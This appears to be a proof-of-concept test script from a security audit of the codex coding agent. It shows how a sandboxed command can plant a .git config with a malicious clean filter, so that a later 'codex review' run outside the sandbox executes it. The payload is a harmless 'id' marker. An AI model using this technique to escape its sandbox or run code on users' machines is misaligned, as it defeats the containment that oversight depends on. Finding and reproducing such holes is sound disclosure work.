#!/usr/bin/env python3
"""Finding 02: in a workspace that is not a git repository (--skip-git-repo-check, or a fresh
directory) a sandboxed command may create .git/ with a config of its choosing (a clean filter
plus .gitattributes).  codex itself later runs git there OUTSIDE the sandbox (`codex review`,
the REPL's /diff and /review), which runs the planted filter.

Run as: python3 docs/attack-pass/02-plant-dot-git-in-non-repo.py   (exit 1 = vulnerable)"""
import os
import shutil
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import CODEX, ModelServer, Turn, run_model, shell  # noqa: E402

base = tempfile.mkdtemp(prefix="f02-")
ws, home = os.path.join(base, "ws"), os.path.join(base, "home")
os.makedirs(ws)
os.makedirs(home)
with open(os.path.join(ws, "a.txt"), "w") as fh:
    fh.write("hello\n")
marker = os.path.join(base, "PWNED-outside-sandbox")
plant = ("git init -q . && git add a.txt && git -c user.name=m -c user.email=m@x commit -qm init && "
         "git config filter.p.clean 'sh -c \"id > %s; cat\"' && echo '* filter=p' > .gitattributes && "
         "echo more >> a.txt && echo planted" % marker)
proc, outs = run_model([shell(plant), Turn().text("done")], ws, home)
print("first run:", outs)
assert not os.path.exists(marker), "the filter ran inside the sandbox already?"
# later: the user asks codex for a review of the uncommitted changes
with ModelServer() as server:
    server.enqueue(Turn().text('{"findings": [], "overall_correctness": "patch is correct", '
                               '"overall_explanation": "ok", "overall_confidence_score": 0.5}'))
    subprocess.run([CODEX, "review", "--uncommitted", "-C", ws, "-c", 'model_provider="mock"',
                    "-c", 'model_providers.mock.base_url="%s"' % server.url, "-c", 'model_providers.mock.env_key="K"'],
                   env=dict(os.environ, K="k", CODEX_HOME=home), stdin=subprocess.DEVNULL, capture_output=True, timeout=120)
if os.path.exists(marker):
    print("VULNERABLE: codex review ran the planted git filter outside the sandbox:", open(marker).read().strip())
    shutil.rmtree(base, ignore_errors=True)
    sys.exit(1)
print("not reproduced")
shutil.rmtree(base, ignore_errors=True)
